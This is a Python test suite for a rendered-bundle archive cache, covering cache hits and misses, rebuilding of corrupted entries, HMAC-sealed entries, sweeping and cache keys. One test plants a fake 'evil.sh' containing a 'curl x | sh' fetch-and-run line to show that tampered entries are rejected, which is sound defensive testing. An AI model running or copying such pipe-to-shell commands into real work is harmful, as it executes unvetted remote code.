"""generator.render.cache: an unchanged recipe is not rendered twice; any input change misses."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

import generator.render as render
from generator.render import GitOpsTarget, archive_bytes, render_bundle
from generator.render.cache import cached_archive, render_key
from tests.test_render import MANIFESTS, sample_result


def test_cache_hits_and_misses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real = render.render_bundle

    def counting(*a, **kw):  # type: ignore[no-untyped-def]
        calls.append(str(a[1]))
        return real(*a, **kw)

    monkeypatch.setattr(render, "render_bundle", counting)
    r = sample_result()
    first = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    second = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    assert first == second
    assert calls == ["helm"]  # the second came from the cache
    assert first == archive_bytes(real(r, "helm", MANIFESTS), "sample-recipe-standard-helm")
    cached_archive(r, "flux", MANIFESTS, cache_dir=tmp_path)
    cached_archive(replace(r, digest="sha256:" + "cd" * 32), "helm", MANIFESTS, cache_dir=tmp_path)
    cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path, mtime=5)
    assert calls == ["helm", "flux", "helm", "helm"]
    assert len(list(tmp_path.glob("*.tar.gz"))) == 4
    assert not list(tmp_path.glob(".tmp-*"))


def test_corrupt_cache_entry_is_rebuilt(tmp_path: Path) -> None:
    r = sample_result()
    good = cached_archive(r, "argocd", MANIFESTS, cache_dir=tmp_path)
    (entry,) = tmp_path.glob("*.tar.gz")
    entry.write_bytes(b"garbage")
    assert cached_archive(r, "argocd", MANIFESTS, cache_dir=tmp_path) == good
    # a corrupted body behind a valid gzip header is caught by the checksum too
    entry.write_bytes(good[:10] + bytes([good[10] ^ 0xFF]) + good[11:])
    assert cached_archive(r, "argocd", MANIFESTS, cache_dir=tmp_path) == good
    assert entry.read_bytes() == good


def test_planted_entry_with_a_matching_checksum_is_not_trusted(tmp_path: Path) -> None:
    """Whoever can write the cache directory cannot make the site publish their archive: the
    seal is an HMAC under this machine's key, which a planted entry cannot reproduce."""
    import hashlib

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    (entry,) = tmp_path.glob("*.tar.gz")
    (seal,) = tmp_path.glob("*.tar.gz.hmac")
    planted = archive_bytes({"evil.sh": render.BundleFile(b"curl x | sh\n")}, "x")
    entry.write_bytes(planted)
    seal.write_text(hashlib.sha256(planted).hexdigest())
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
    assert entry.read_bytes() == good


def test_sweep_keeps_only_the_archives_used(tmp_path: Path) -> None:
    from generator.render.cache import entry_name, sweep

    r = sample_result()
    cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    cached_archive(r, "flux", MANIFESTS, cache_dir=tmp_path)
    keep = entry_name(r, "flux", GitOpsTarget(), 0)
    assert sweep(tmp_path, {keep}) == 2  # the helm archive and its seal
    assert sorted(p.name for p in tmp_path.iterdir()) == [keep, keep + ".hmac"]


def test_key_depends_on_every_input() -> None:
    r = sample_result()
    t = GitOpsTarget()
    base = render_key(r, "helm", t, 0)
    assert base == render_key(r, "helm", t, 0)
    others = {
        render_key(r, "helmfile", t, 0),
        render_key(r, "helm", GitOpsTarget(revision="v1"), 0),
        render_key(r, "helm", t, 1),
        render_key(replace(r, digest="sha256:" + "00" * 32), "helm", t, 0),
    }
    assert base not in others and len(others) == 4


def test_no_cache_dir_renders_directly() -> None:
    r = sample_result()
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=None) == archive_bytes(
        render_bundle(r, "helm", MANIFESTS), "sample-recipe-standard-helm"
    )


def test_the_renderer_fingerprint_covers_the_writers_in_generator_fast() -> None:
    """The YAML and tar writers live in generator/fast: a change there must miss the cache."""
    from generator.fast import tarball, yamlwrite
    from generator.render import cache as render_cache

    for module in (tarball, yamlwrite):
        assert Path(str(module.__file__)).resolve().parent == render_cache._FAST
